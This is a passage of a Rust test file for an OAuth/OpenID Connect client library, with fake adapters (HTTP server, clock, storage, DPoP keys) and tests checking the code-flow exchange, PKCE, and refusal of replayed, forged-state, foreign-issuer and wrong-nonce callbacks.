#![cfg(not(target_arch = "wasm32"))]
//! The client's flows, natively, against fakes behind the adapter traits:
//! a scripted HTTP server, a settable clock, counted entropy, memory storage.

use std::cell::{Cell, RefCell};
use std::future::Future;
use std::pin::{pin, Pin};
use std::rc::Rc;
use std::task::{Context, Poll, Waker};

use wasm_oauth::browser::storage::MemoryStorage;
use wasm_oauth::client::{Client, KEY_PREFIX, POPUP_TIMEOUT_MS};
use wasm_oauth::core::authorize::{ImplicitType, LoginRequest};
use wasm_oauth::core::config::{AuthClientOptions, Config, EndpointOptions};
use wasm_oauth::core::error::{AuthError, ErrorCode};
use wasm_oauth::core::form::{find, parse_pairs};
use wasm_oauth::core::log::{render, Field, Level};
use wasm_oauth::core::pkce::CodeVerifier;
use wasm_oauth::core::secret::{AccessToken, RefreshToken};
use wasm_oauth::core::url::WhatwgUrl;
use wasm_oauth::ports::{
    Abort, Adapters, Algorithm, Clock, DpopJwk, DpopKeys, Event, Events, Http, HttpRequest,
    HttpResponse, JsonCodec, Log, Navigation, PopupWindow, PublicKey, Published, Random, Runtime,
    SignatureVerifier, SilentFrame, Storage, Tabs,
};

/// Base64url without padding, for building test tokens.
fn b64(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

/// The query of an absolute URL, as pairs.
fn query_pairs(url: &str) -> Vec<(String, String)> {
    parse_pairs(url::Url::parse(url).unwrap().query().unwrap()).unwrap()
}

/// JSON through serde_json, as the browser's adapter does through JSON.parse.
#[derive(Clone, Copy, Default)]
struct FakeJson;

impl JsonCodec for FakeJson {
    type Value = serde_json::Value;
    fn parse(&self, text: &str) -> Option<serde_json::Value> {
        serde_json::from_str(text).ok()
    }
    fn read<T: serde::de::DeserializeOwned>(&self, value: &serde_json::Value) -> Option<T> {
        T::deserialize(value).ok()
    }
    fn write<T: serde::Serialize>(&self, value: &T) -> Option<String> {
        serde_json::to_string(value).ok()
    }
}

/// Runs a future whose I/O completes at once (every fake here does).
fn block_on<F: Future>(f: F) -> F::Output {
    let mut f = pin!(f);
    let mut cx = Context::from_waker(Waker::noop());
    for _ in 0..10_000 {
        if let Poll::Ready(v) = f.as_mut().poll(&mut cx) {
            return v;
        }
    }
    panic!("the future never completed");
}

const ISSUER: &str = "https://auth.example";
const CLIENT_ID: &str = "550e8400-e29b-41d4-a716-446655440000";
const REDIRECT: &str = "https://app.example/callback";
const JWKS_URL: &str = "https://auth.example/.well-known/jwks.json";
const TOKEN_URL: &str = "https://auth.example/api/v1/oauth/token";
const REVOKE_URL: &str = "https://auth.example/api/v1/oauth/revoke";
const USERINFO_URL: &str = "https://auth.example/api/v1/userinfo";
const NOW: u64 = 1_800_000_000_000;
/// The fake verifier accepts exactly this signature, from the RSA key `k1`
/// (RS256, or PS256 when the JWK allows it) or the P-256 key `e1` (ES256).
const GOOD_SIGNATURE: &[u8] = b"signed-by-k1";
const JWKS: &str = r#"{"keys":[{"kty":"RSA","kid":"k1","use":"sig","alg":"RS256","n":"AQAB","e":"AQAB"},{"kty":"RSA","kid":"p1","use":"sig","n":"AQAB","e":"AQAB"},{"kty":"EC","kid":"e1","use":"sig","crv":"P-256","x":"AQ","y":"Ag"}]}"#;

/// Queued answers, each for one URL.
type Answers = Rc<RefCell<Vec<(String, Result<HttpResponse, AuthError>)>>>;

/// A scripted HTTP server: answers are queued per URL; the JWKS is always served.
#[derive(Clone, Default)]
struct FakeHttp {
    requests: Rc<RefCell<Vec<HttpRequest>>>,
    answers: Answers,
    /// While set, token-endpoint requests wait (to pile up concurrent callers).
    gate: Rc<Cell<bool>>,
    /// While set, JWKS fetches fail with network_error.
    jwks_down: Rc<Cell<bool>>,
    /// When set, the JWKS endpoint answers this status and body instead.
    jwks_answer: Rc<RefCell<Option<(u16, String)>>>,
    /// The `Date` header of the answers queued from now on (ms), when the
    /// provider lets the page read it; `None` (the default) when it does not.
    date_ms: Rc<Cell<Option<u64>>>,
}

impl FakeHttp {
    fn answer_at(&self, url: &str, status: u16, body: &str) {
        self.answers.borrow_mut().push((
            url.to_string(),
            Ok(HttpResponse {
                status,
                body: body.to_string(),
                date_ms: self.date_ms.get(),
                dpop_nonce: None,
            }),
        ));
    }
    /// Queues an answer that carries a `DPoP-Nonce` header.
    fn answer_with_nonce(&self, url: &str, status: u16, body: &str, nonce: &str) {
        self.answers.borrow_mut().push((
            url.to_string(),
            Ok(HttpResponse {
                status,
                body: body.to_string(),
                date_ms: self.date_ms.get(),
                dpop_nonce: Some(nonce.to_string()),
            }),
        ));
    }
    fn answer(&self, status: u16, body: &str) {
        self.answer_at(TOKEN_URL, status, body);
    }
    fn fail(&self, url: &str, code: ErrorCode) {
        self.answers
            .borrow_mut()
            .push((url.to_string(), Err(AuthError::new(code, "fake failure"))));
    }
    /// Requests sent, the JWKS fetches left out.
    fn sent(&self) -> Vec<HttpRequest> {
        self.requests
            .borrow()
            .iter()
            .filter(|r| r.url != JWKS_URL)
            .cloned()
            .collect()
    }
    fn count_to(&self, url: &str) -> usize {
        self.requests
            .borrow()
            .iter()
            .filter(|r| r.url == url)
            .count()
    }
}

struct Gate(Rc<Cell<bool>>);
impl Future for Gate {
    type Output = ();
    fn poll(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<()> {
        if self.0.get() {
            Poll::Pending
        } else {
            Poll::Ready(())
        }
    }
}

impl Http for FakeHttp {
    type Abort = FakeAbort;
    /// A request here takes `REQUEST_MS` of fake time; an abort due within it
    /// cancels the request before it is sent, as a browser's `AbortSignal`
    /// cancels a fetch.
    async fn send(
        &self,
        request: HttpRequest,
        abort: Option<&FakeAbort>,
    ) -> Result<HttpResponse, AuthError> {
        if let Some((at, clock)) = abort.and_then(|a| Some((a.abort_at?, &a.clock))) {
            if at <= clock.get() + REQUEST_MS {
                clock.set(at.max(clock.get()));
                return Err(AuthError::new(ErrorCode::Aborted, "cancelled in flight"));
            }
        }
        self.requests.borrow_mut().push(request.clone());
        if request.url == JWKS_URL {
            if self.jwks_down.get() {
                return Err(AuthError::new(ErrorCode::NetworkError, "jwks down"));
            }
            let (status, body) = self
                .jwks_answer
                .borrow()
                .clone()
                .unwrap_or((200, JWKS.into()));
            return Ok(HttpResponse {
                status,
                body,
                date_ms: None,
                dpop_nonce: None,
            });
        }
        Gate(self.gate.clone()).await;
        let mut answers = self.answers.borrow_mut();
        let i = answers
            .iter()
            .position(|(u, _)| *u == request.url)
            .unwrap_or_else(|| panic!("unexpected request to {}", request.url));
        answers.remove(i).1
    }
}

#[derive(Clone, Default)]
struct SharedStorage(Rc<MemoryStorage>);
impl Storage for SharedStorage {
    fn get(&self, key: &str) -> Option<String> {
        self.0.get(key)
    }
    fn set(&self, key: &str, value: &str) -> Result<(), AuthError> {
        self.0.set(key, value)
    }
    fn remove(&self, key: &str) {
        self.0.remove(key)
    }
    fn keys_with_prefix(&self, prefix: &str) -> Vec<String> {
        self.0.keys_with_prefix(prefix)
    }
    fn is_ready(&self) -> bool {
        true
    }
    async fn ready(&self) -> bool {
        true
    }
    fn deliver_refusals_to(&self, _: Box<dyn Fn(AuthError)>) {}
}

/// The client's receiver of the other tabs' news (`Tabs::deliver_to`).
type Receiver = Rc<RefCell<Option<Box<dyn Fn(Published)>>>>;

/// Another tab's hand-over, as the cross-tab adapter would deliver it.
#[derive(Clone, Default)]
struct FakeTabs {
    published: Rc<RefCell<Published>>,
    locks_taken: Rc<Cell<u32>>,
    /// Set by the test: what another tab publishes while we wait for the lock.
    arrives_while_waiting: Rc<RefCell<Option<String>>>,
    receiver: Receiver,
}

impl FakeTabs {
    /// Another tab publishes `news`: kept as the latest, and delivered.
    fn another_tab_publishes(&self, news: Published) {
        *self.published.borrow_mut() = news.clone();
        if let Some(receiver) = self.receiver.borrow().as_ref() {
            receiver(news);
        }
    }
}

impl Tabs for FakeTabs {
    type Guard = ();
    async fn lock(&self) {
        self.locks_taken.set(self.locks_taken.get() + 1);
        if let Some(t) = self.arrives_while_waiting.borrow_mut().take() {
            *self.published.borrow_mut() = Published::Tokens(t);
        }
    }
    fn publish_tokens(&self, stored: &str) {
        *self.published.borrow_mut() = Published::Tokens(stored.to_string());
    }
    fn publish_logout(&self) {
        *self.published.borrow_mut() = Published::LoggedOut;
    }
    fn latest_published(&self) -> Published {
        self.published.borrow().clone()
    }
    fn deliver_to(&self, receiver: Box<dyn Fn(Published)>) {
        *self.receiver.borrow_mut() = Some(receiver);
    }
}

/// The DPoP key pairs: the first is RFC 9449's example public key, each
/// signs with a fixed "signature"; a retirement (counted) or `replaced`
/// makes another the one in use, as a browser makes a new one.
#[derive(Clone, Default)]
struct FakeDpopKeys {
    deleted: Rc<Cell<u32>>,
    /// Set by a test: the key was lost and replaced by another.
    replaced: Rc<Cell<bool>>,
}

/// What the fake key "signs" with.
const DPOP_SIGNATURE: &[u8] = b"dpop-signature";

impl DpopKeys for FakeDpopKeys {
    /// The first pair's public key is RFC 9449's example; any later one's another.
    type Key = DpopJwk;
    async fn key(&self) -> Result<DpopJwk, AuthError> {
        let x = match self.deleted.get() + u32::from(self.replaced.get()) {
            0 => "l8tFrhx-34tV3hRICRDY9zCkDlpBhF42UQUfWVAWBFs",
            _ => "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        };
        DpopJwk::p256(x, "9VE4jf_Ok_o64zbTTlcuNJajHmt6v9TDVrU0CdvGRDA")
    }
    fn public_key<'k>(&self, key: &'k DpopJwk) -> &'k DpopJwk {
        key
    }
    async fn sign(&self, _: &DpopJwk, _: &[u8]) -> Result<Vec<u8>, AuthError> {
        Ok(DPOP_SIGNATURE.to_vec())
    }
    async fn retire(&self) -> Option<DpopJwk> {
        let retired = self.key().await.ok();
        self.deleted.set(self.deleted.get() + 1);
        retired
    }
}

/// The settable clock.
#[derive(Clone)]
struct FakeClock(Rc<Cell<u64>>);
impl Clock for FakeClock {
    fn now_ms(&self) -> u64 {
        self.0.get()
    }
}

/// Counted "entropy": each byte 37 more than the last.
#[derive(Clone)]
struct FakeRandom(Rc<Cell<u8>>);
impl Random for FakeRandom {
    fn fill(&self, buf: &mut [u8]) -> Result<(), AuthError> {
        for b in buf.iter_mut() {
            *b = self.0.get();
            self.0.set(self.0.get().wrapping_add(37));
        }
        Ok(())
    }
}

/// Accepts exactly `GOOD_SIGNATURE`, from a key of the algorithm's type.
#[derive(Clone, Copy)]
struct FakeVerifier;
impl SignatureVerifier for FakeVerifier {
    async fn verify(
        &self,
        alg: Algorithm,
        key: &PublicKey,
        _: &[u8],
        signature: &[u8],
    ) -> Result<bool, AuthError> {
        let fits = match (alg, key) {
            (Algorithm::Rs256 | Algorithm::Ps256, PublicKey::Rsa { n, .. }) => n == "AQAB",
            (Algorithm::Es256, PublicKey::P256 { x, .. }) => x == "AQ",
            _ => panic!("select_key handed a key of another type than {alg:?}"),
        };
        Ok(fits && signature == GOOD_SIGNATURE)
    }
}

/// A browser (`true`) or a server runtime.
#[derive(Clone, Copy)]
struct FakeRuntime(bool);
impl Runtime for FakeRuntime {
    fn is_browser(&self) -> bool {
        self.0
    }
}

/// What the app's listeners were told, each event as a short line.
#[derive(Clone, Default)]
struct FakeEvents(Rc<RefCell<Vec<String>>>);
impl Events for FakeEvents {
    fn emit(&self, event: Event<'_>) {
        let name = match event {
            Event::Tokens(t) => format!("tokens:{}", t.access_token.secret().len()),
            Event::Logout => "logout".to_string(),
            Event::Error(e) => format!("error:{}", e.code()),
            Event::TokenExpiring(at) => format!("expiring:{at}"),
            Event::TokenExpired => "expired".to_string(),
        };
        self.0.borrow_mut().push(name);
    }
}

/// What the login popup does once sent to the authorization URL: hands back
/// a callback URL, or ends in an error (closed, timed out).
type PopupScript = Rc<RefCell<Option<Box<dyn Fn(&str) -> Result<String, AuthError>>>>>;

/// The page's address and its popups. Every step is logged with the number
/// of HTTP requests sent before it, so the tests see what came first.
#[derive(Clone, Default)]
struct FakeNavigation {
    log: Rc<RefCell<Vec<String>>>,
    requests: Rc<RefCell<Vec<HttpRequest>>>,
    /// The page's address (`None`: no page).
    address: Rc<RefCell<Option<String>>>,
    /// This page is a login popup that our opener waits for.
    own_popup: Rc<Cell<bool>>,
    /// The browser blocks popups.
    blocks_popups: Rc<Cell<bool>>,
    popup: PopupScript,
    /// The callback URL this page (a popup of ours) handed to its opener.
    handed_back: Rc<RefCell<Option<String>>>,
    /// The popup this page opened is closed (by `PopupWindow::close` or a script).
    popup_closed: Rc<Cell<bool>>,
}

impl FakeNavigation {
    fn note(&self, step: &str) {
        let sent = self.requests.borrow().len();
        self.log.borrow_mut().push(format!("{step} @{sent}"));
    }
    fn log(&self) -> Vec<String> {
        self.log.borrow().clone()
    }
    fn popup_does(&self, script: impl Fn(&str) -> Result<String, AuthError> + 'static) {
        *self.popup.borrow_mut() = Some(Box::new(script));
    }
}

impl Navigation for FakeNavigation {
    type Popup = FakePopup;
    fn current_url(&self) -> Option<String> {
        self.address.borrow().clone()
    }
    fn navigate(&self, url: &str) -> Result<(), AuthError> {
        self.note(&format!("navigate {url}"));
        *self.address.borrow_mut() = Some(url.to_string());
        Ok(())
    }
    fn replace_url(&self, url: &str) {
        self.note(&format!("replace {url}"));
        *self.address.borrow_mut() = Some(url.to_string());
    }
    fn open_popup(&self) -> Result<FakePopup, AuthError> {
        if self.blocks_popups.get() {
            self.note("blocked");
            return Err(AuthError::new(ErrorCode::PopupBlocked, "blocked"));
        }
        self.note("open");
        Ok(FakePopup(self.clone()))
    }
    fn is_own_popup(&self) -> bool {
        self.own_popup.get()
    }
    fn hand_back(&self, url: &str) {
        self.note(&format!("hand back {url}"));
        *self.handed_back.borrow_mut() = Some(url.to_string());
    }
}

/// A popup the fake page opened.
struct FakePopup(FakeNavigation);
impl PopupWindow for FakePopup {
    async fn wait_for_callback(&self, url: &str, timeout_ms: u32) -> Result<String, AuthError> {
        self.0.note(&format!("wait {timeout_ms}"));
        let script = self.0.popup.borrow();
        script.as_ref().expect("no popup script")(url)
    }
    fn close(&self) {
        self.0.note("close");
        self.0.popup_closed.set(true);
    }
}

/// What the fake frame's callback page hands back for the authorization
/// request's parameters; `None`: nothing ever comes (a timeout).
type FrameAnswer = Rc<dyn Fn(&[(String, String)]) -> Option<String>>;

/// Silent sign-in's hidden frame: records each load, then hands back what
/// `answer` makes of the request (after `gate` opens). Seen from inside, a
/// page in a frame of ours (`own_frame`) hands back into the page's log.
#[derive(Clone, Default)]
struct FakeFrame {
    /// Each URL loaded, with the timeout it was given.
    loads: Rc<RefCell<Vec<(String, u32)>>>,
    answer: Rc<RefCell<Option<FrameAnswer>>>,
    /// While set, the frame does not answer yet (to pile up concurrent callers).
    gate: Rc<Cell<bool>>,
    /// The page's origin; `https://app.example` unless set.
    origin: Rc<RefCell<Option<String>>>,
    /// This page is the callback page in a silent sign-in frame of ours.
    own_frame: Rc<Cell<bool>>,
    /// The page this frame is in, whose log records the hand-back.
    page: FakeNavigation,
}

impl SilentFrame for FakeFrame {
    fn page_origin(&self) -> Option<String> {
        Some(
            self.origin
                .borrow()
                .clone()
                .unwrap_or_else(|| "https://app.example".into()),
        )
    }
    async fn load(&self, url: &str, timeout_ms: u32) -> Result<String, AuthError> {
        self.loads.borrow_mut().push((url.to_string(), timeout_ms));
        Gate(self.gate.clone()).await;
        let answer = self.answer.borrow().clone();
        answer
            .and_then(|a| a(&query_pairs(url)))
            .ok_or_else(|| AuthError::new(ErrorCode::Timeout, "the fake frame never answered"))
    }
    fn is_own_frame(&self) -> bool {
        self.own_frame.get()
    }
    fn hand_back(&self, url: &str) {
        self.page.note(&format!("frame hand back {url}"));
    }
}

#[derive(Clone)]
struct Fakes<S = SharedStorage> {
    dpop: FakeDpopKeys,
    storage: S,
    /// Pending logins' own storage when set (the browser keeps them in
    /// sessionStorage whatever the token storage is); else `storage`.
    transactions: Option<S>,
    http: FakeHttp,
    tabs: FakeTabs,
    clock: FakeClock,
    random: FakeRandom,
    runtime: FakeRuntime,
    events: FakeEvents,
    navigation: FakeNavigation,
    frame: FakeFrame,
    log: FakeLog,
}

/// The app's logger: keeps each line as `core::log::render` writes it.
#[derive(Clone, Default)]
struct FakeLog {
    lines: Rc<RefCell<Vec<String>>>,
}

impl Log for FakeLog {
    fn enabled(&self) -> bool {
        true
    }
    fn write(&self, level: Level, message: &'static str, fields: &[Field]) {
        self.lines.borrow_mut().push(render(level, message, fields));
    }
}

impl<S> Fakes<S> {
    /// The same fakes over another storage.
    fn with_storage<T>(self, storage: T) -> Fakes<T> {
        Fakes {
            dpop: self.dpop,
            storage,
            transactions: None,
            http: self.http,
            tabs: self.tabs,
            clock: self.clock,
            random: self.random,
            runtime: self.runtime,
            events: self.events,
            navigation: self.navigation,
            frame: self.frame,
            log: self.log,
        }
    }
}

impl<S: Storage> Adapters for Fakes<S> {
    type Storage = S;
    type Http = FakeHttp;
    type Abort = FakeAbort;
    type Tabs = FakeTabs;
    type Json = FakeJson;
    type Urls = WhatwgUrl;
    type DpopKeys = FakeDpopKeys;
    type Clock = FakeClock;
    type Random = FakeRandom;
    type Signatures = FakeVerifier;
    type Navigation = FakeNavigation;
    type Events = FakeEvents;
    type Runtime = FakeRuntime;
    type SilentFrame = FakeFrame;
    type Log = FakeLog;
    fn storage(&self) -> &S {
        &self.storage
    }
    fn transaction_storage(&self) -> &S {
        self.transactions.as_ref().unwrap_or(&self.storage)
    }
    fn http(&self) -> &FakeHttp {
        &self.http
    }
    fn tabs(&self) -> &FakeTabs {
        &self.tabs
    }
    fn json(&self) -> &FakeJson {
        &FakeJson
    }
    fn urls(&self) -> &WhatwgUrl {
        &WhatwgUrl
    }
    fn dpop_keys(&self) -> &FakeDpopKeys {
        &self.dpop
    }
    fn clock(&self) -> &FakeClock {
        &self.clock
    }
    fn random(&self) -> &FakeRandom {
        &self.random
    }
    fn signatures(&self) -> &FakeVerifier {
        &FakeVerifier
    }
    fn navigation(&self) -> &FakeNavigation {
        &self.navigation
    }
    fn events(&self) -> &FakeEvents {
        &self.events
    }
    fn runtime(&self) -> &FakeRuntime {
        &self.runtime
    }
    fn silent_frame(&self) -> &FakeFrame {
        &self.frame
    }
    fn log(&self) -> &FakeLog {
        &self.log
    }
}

/// How long an abortable request takes on the fake clock.
const REQUEST_MS: u64 = 1_000;

/// Device polling's waits, on the fake clock.
struct FakeAbort {
    clock: Rc<Cell<u64>>,
    abort_at: Option<u64>,
    /// A broken runtime timer: each sleep returns at once, the clock standing still.
    stalls: bool,
    /// A clock set back by this much during the first sleep.
    set_back_ms: Cell<Option<u64>>,
    /// Every sleep asked for, in ms.
    sleeps: RefCell<Vec<u64>>,
}
impl FakeAbort {
    /// Waits on `h`'s fake clock; the app aborts at `abort_at`, if ever.
    fn on(h: &Harness, abort_at: Option<u64>) -> FakeAbort {
        FakeAbort {
            clock: h.clock.clone(),
            abort_at,
            stalls: false,
            set_back_ms: Cell::new(None),
            sleeps: RefCell::new(Vec::new()),
        }
    }
}

impl Abort for FakeAbort {
    fn aborted(&self) -> bool {
        self.abort_at.is_some_and(|at| self.clock.get() >= at)
    }
    async fn sleep(&self, ms: u64) {
        self.sleeps.borrow_mut().push(ms);
        assert!(self.sleeps.borrow().len() < 1_000, "the poll loop spins");
        if self.stalls {
            return;
        }
        let wake = self.clock.get() + ms;
        let wake = self.abort_at.map_or(wake, |at| wake.min(at));
        self.clock.set(wake - self.set_back_ms.take().unwrap_or(0));
    }
}

type TestClient = Client<Fakes>;

struct Harness {
    client: TestClient,
    http: FakeHttp,
    clock: Rc<Cell<u64>>,
    storage: SharedStorage,
    tabs: FakeTabs,
    events: Rc<RefCell<Vec<String>>>,
    navigation: FakeNavigation,
    dpop: FakeDpopKeys,
    frame: FakeFrame,
}

fn fakes() -> Fakes {
    let http = FakeHttp::default();
    let navigation = FakeNavigation {
        requests: http.requests.clone(),
        ..FakeNavigation::default()
    };
    Fakes {
        dpop: FakeDpopKeys::default(),
        storage: SharedStorage::default(),
        transactions: None,
        frame: FakeFrame {
            page: navigation.clone(),
            ..FakeFrame::default()
        },
        navigation,
        http,
        tabs: FakeTabs::default(),
        clock: FakeClock(Rc::new(Cell::new(NOW))),
        random: FakeRandom(Rc::new(Cell::new(1))),
        runtime: FakeRuntime(true),
        events: FakeEvents::default(),
        log: FakeLog::default(),
    }
}

fn harness_on(options: AuthClientOptions, f: Fakes) -> Harness {
    Harness {
        http: f.http.clone(),
        clock: f.clock.0.clone(),
        storage: f.storage.clone(),
        tabs: f.tabs.clone(),
        events: f.events.0.clone(),
        navigation: f.navigation.clone(),
        dpop: f.dpop.clone(),
        frame: f.frame.clone(),
        client: Client::new(Config::from_options(options, &WhatwgUrl).unwrap(), f),
    }
}

fn harness_with(options: AuthClientOptions) -> Harness {
    harness_on(options, fakes())
}

fn options() -> AuthClientOptions {
    AuthClientOptions {
        client_id: Some(CLIENT_ID.into()),
        redirect_uri: Some(REDIRECT.into()),
        issuer: Some(ISSUER.into()),
        scope: Some("openid profile offline_access".into()),
        ..AuthClientOptions::default()
    }
}

fn harness() -> Harness {
    harness_with(options())
}

fn jwt(header: &str, claims: &str, signature: &[u8]) -> String {
    [
        b64(header.as_bytes()),
        b64(claims.as_bytes()),
        b64(signature),
    ]
    .join(".")
}

fn id_token(claims: &str) -> String {
    jwt(r#"{"alg":"RS256","kid":"k1"}"#, claims, GOOD_SIGNATURE)
}

fn claims_at(nonce: &str, iat_s: u64) -> String {
    format!(
        r#"{{"iss":"{ISSUER}","sub":"urn:xeonr:user:alice","aud":["{CLIENT_ID}"],"exp":{},"iat":{iat_s},"nonce":"{nonce}"}}"#,
        iat_s + 3600
    )
}

fn good_id_token(nonce: &str) -> String {
    id_token(&claims_at(nonce, NOW / 1000))
}

fn token_body(id_token: &str) -> String {
    format!(
        r#"{{"access_token":"AT-1","token_type":"Bearer","expires_in":3600,"scope":"openid profile offline_access","refresh_token":"RT-1","id_token":"{id_token}"}}"#
    )
}

/// Starts a login and returns (authorize URL params, state, nonce).
fn start(h: &Harness) -> (Vec<(String, String)>, String, String) {
    start_on(&h.client)
}

/// Starts a login on `client`: its authorization request's parameters, state and nonce.
fn start_on<A: Adapters>(client: &Client<A>) -> (Vec<(String, String)>, String, String) {
    let url = block_on(client.start_login(&LoginRequest::default(), None)).unwrap();
    let params = query_pairs(&url);
    let state = find(&params, "state").unwrap().to_string();
    let nonce = find(&params, "nonce").unwrap().to_string();
    (params, state, nonce)
}

fn callback(h: &Harness, url: &str) -> Result<wasm_oauth::client::CallbackOutcome, AuthError> {
    block_on(h.client.handle_callback(url))
}

fn signed_in(h: &Harness) {
    signed_in_with(h, &token_body, "C1");
}

/// A login whose code `code` is answered by `body` around a good ID token.
fn signed_in_with(h: &Harness, body: &dyn Fn(&str) -> String, code: &str) {
    let (_, state, nonce) = start(h);
    h.http.answer(200, &body(&good_id_token(&nonce)));
    callback(h, &format!("{REDIRECT}?code={code}&state={state}")).unwrap();
}

#[test]
fn code_flow_exchanges_the_code_with_the_verifier_and_stores_tokens() {
    let h = harness();
    let request = LoginRequest {
        app_state: Some(r#"{"returnTo":"/inbox"}"#.into()),
        ..LoginRequest::default()
    };
    let url = block_on(h.client.start_login(&request, None)).unwrap();
    assert!(url.starts_with("https://auth.example/auth/authorize?"));
    let params = query_pairs(&url);
    let state = find(&params, "state").unwrap();
    let nonce = find(&params, "nonce").unwrap();
    h.http.answer(200, &token_body(&good_id_token(nonce)));

    let outcome = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();

    assert_eq!(
        outcome.app_state.as_deref(),
        Some(r#"{"returnTo":"/inbox"}"#)
    );
    assert_eq!(outcome.tokens.access_token, "AT-1");
    assert_eq!(outcome.tokens.expires_at_ms, Some(NOW + 3_600_000));
    let sent = h.http.sent();
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].url, "https://auth.example/api/v1/oauth/token");
    let form = parse_pairs(sent[0].form.as_deref().unwrap()).unwrap();
    assert_eq!(find(&form, "grant_type"), Some("authorization_code"));
    assert_eq!(find(&form, "code"), Some("C1"));
    assert_eq!(find(&form, "redirect_uri"), Some(REDIRECT));
    assert_eq!(find(&form, "client_id"), Some(CLIENT_ID));
    let verifier = CodeVerifier::parse(find(&form, "code_verifier").unwrap()).unwrap();
    assert_eq!(
        Some(verifier.challenge().as_str()),
        find(&params, "code_challenge")
    );
    assert_eq!(
        h.client
            .tokens()
            .unwrap()
            .refresh_token
            .as_ref()
            .map(RefreshToken::secret),
        Some("RT-1")
    );
    assert!(h.client.is_authenticated());
    let claims = h.client.id_token_claims().unwrap();
    assert_eq!(claims["sub"], "urn:xeonr:user:alice");
}

#[test]
fn a_second_login_keeps_the_first_pending_when_transactions_have_their_own_storage() {
    // Tokens in one storage, pending logins in another (as in a browser with
    // `storage: "local"`): starting a login must not sweep away another
    // pending login that is still fresh.
    let transactions = SharedStorage::default();
    let f = Fakes {
        transactions: Some(transactions.clone()),
        ..fakes()
    };
    let h = harness_on(options(), f);
    let (_, first_state, first_nonce) = start(&h);
    let (_, _second_state, _) = start(&h);
    let tx_prefix = format!("{KEY_PREFIX}{CLIENT_ID}:tx:");
    assert_eq!(transactions.keys_with_prefix(&tx_prefix).len(), 2);
    assert!(h.storage.keys_with_prefix(&tx_prefix).is_empty());
    h.http
        .answer(200, &token_body(&good_id_token(&first_nonce)));
    callback(&h, &format!("{REDIRECT}?code=C1&state={first_state}")).unwrap();
    // Expired ones are still swept.
    h.clock.set(h.clock.get() + 11 * 60 * 1000);
    start(&h);
    assert_eq!(transactions.keys_with_prefix(&tx_prefix).len(), 1);
}

#[test]
fn replayed_callback_fails_with_missing_transaction() {
    let h = harness();
    let (_, state, nonce) = start(&h);
    h.http.answer(200, &token_body(&good_id_token(&nonce)));
    let url = format!("{REDIRECT}?code=C1&state={state}");
    callback(&h, &url).unwrap();
    let e = callback(&h, &url).unwrap_err();
    assert_eq!(e.code(), "missing_transaction");
    assert_eq!(
        h.http.sent().len(),
        1,
        "the replay must not reach the token endpoint"
    );
}

#[test]
fn tampered_state_fails_and_stores_nothing() {
    let h = harness();
    start(&h);
    let e = callback(&h, &format!("{REDIRECT}?code=C1&state=forged")).unwrap_err();
    assert_eq!(e.code(), "state_mismatch");
    assert!(h.http.sent().is_empty());
    assert!(h.client.tokens().is_none());
}

#[test]
fn callback_without_state_is_refused() {
    let h = harness();
    start(&h);
    let e = callback(&h, &format!("{REDIRECT}?code=C1")).unwrap_err();
    assert_eq!(e.code(), "state_mismatch");
    assert!(h.http.sent().is_empty());
}

#[test]
fn several_logins_may_be_pending_and_each_completes() {
    let h = harness();
    let (_, state_a, nonce_a) = start(&h);
    let (_, state_b, nonce_b) = start(&h);
    assert_ne!(state_a, state_b);
    h.http.answer(200, &token_body(&good_id_token(&nonce_b)));
    callback(&h, &format!("{REDIRECT}?code=B&state={state_b}")).unwrap();
    h.http.answer(200, &token_body(&good_id_token(&nonce_a)));
    callback(&h, &format!("{REDIRECT}?code=A&state={state_a}")).unwrap();
}

#[test]
fn stale_pending_login_expires() {
    let h = harness();
    let (_, state, _) = start(&h);
    h.clock.set(NOW + 10 * 60 * 1000 + 1);
    let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
    assert_eq!(e.code(), "transaction_expired");
    assert!(h.http.sent().is_empty());
}

#[test]
fn error_callback_keeps_the_servers_code_and_description() {
    let h = harness();
    let (_, state, _) = start(&h);
    let e = callback(
        &h,
        &format!("{REDIRECT}?error=access_denied&error_description=The+user+said+no&state={state}"),
    )
    .unwrap_err();
    assert_eq!(e.code(), "access_denied");
    assert_eq!(e.description(), Some("The user said no"));
}

#[test]
fn foreign_issuer_in_callback_is_refused() {
    let h = harness();
    let (_, state, _) = start(&h);
    let e = callback(
        &h,
        &format!("{REDIRECT}?code=C1&state={state}&iss=https%3A%2F%2Fevil.example"),
    )
    .unwrap_err();
    assert_eq!(e.code(), "issuer_mismatch");
    assert!(h.http.sent().is_empty());
}

#[test]
fn matching_issuer_in_callback_is_accepted() {
    let h = harness();
    let (_, state, nonce) = start(&h);
    h.http.answer(200, &token_body(&good_id_token(&nonce)));
    callback(
        &h,
        &format!("{REDIRECT}?code=C1&state={state}&iss=https%3A%2F%2Fauth.example"),
    )
    .unwrap();
}

#[test]
fn code_in_fragment_for_a_query_login_is_refused() {
    let h = harness();
    let (_, state, _) = start(&h);
    let e = callback(&h, &format!("{REDIRECT}#code=C1&state={state}")).unwrap_err();
    assert_eq!(e.code(), "invalid_response");
}

#[test]
fn wrong_nonce_in_id_token_stores_nothing() {
    let h = harness();
    let (_, state, _) = start(&h);
    h.http
        .answer(200, &token_body(&good_id_token("another-nonce")));
    let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
    assert_eq!(e.code(), "nonce_mismatch");
    assert!(h.client.tokens().is_none());
}

#[test]
fn missing_id_token_for_openid_scope_is_refused() {
    let h = harness();
    let (_, state, _) = start(&h);
    h.http.answer(
        200,
        r#"{"access_token":"AT","token_type":"Bearer","expires_in":60}"#,
    );
    let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
    assert_eq!(e.code(), "invalid_id_token");
    assert!(h.client.tokens().is_none());
}

#[test]
fn token_endpoint_error_is_reported_with_status() {
    let h = harness();
    let (_, state, _) = start(&h);
    h.http.answer(
        400,
        r#"{"error":"invalid_grant","error_description":"code expired"}"#,
    );
    let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
    assert_eq!(e.code(), "invalid_grant");
    assert_eq!(e.status(), Some(400));
}

#[test]
fn access_token_is_returned_while_valid_and_refreshed_near_expiry() {
    let h = harness();
    signed_in(&h);
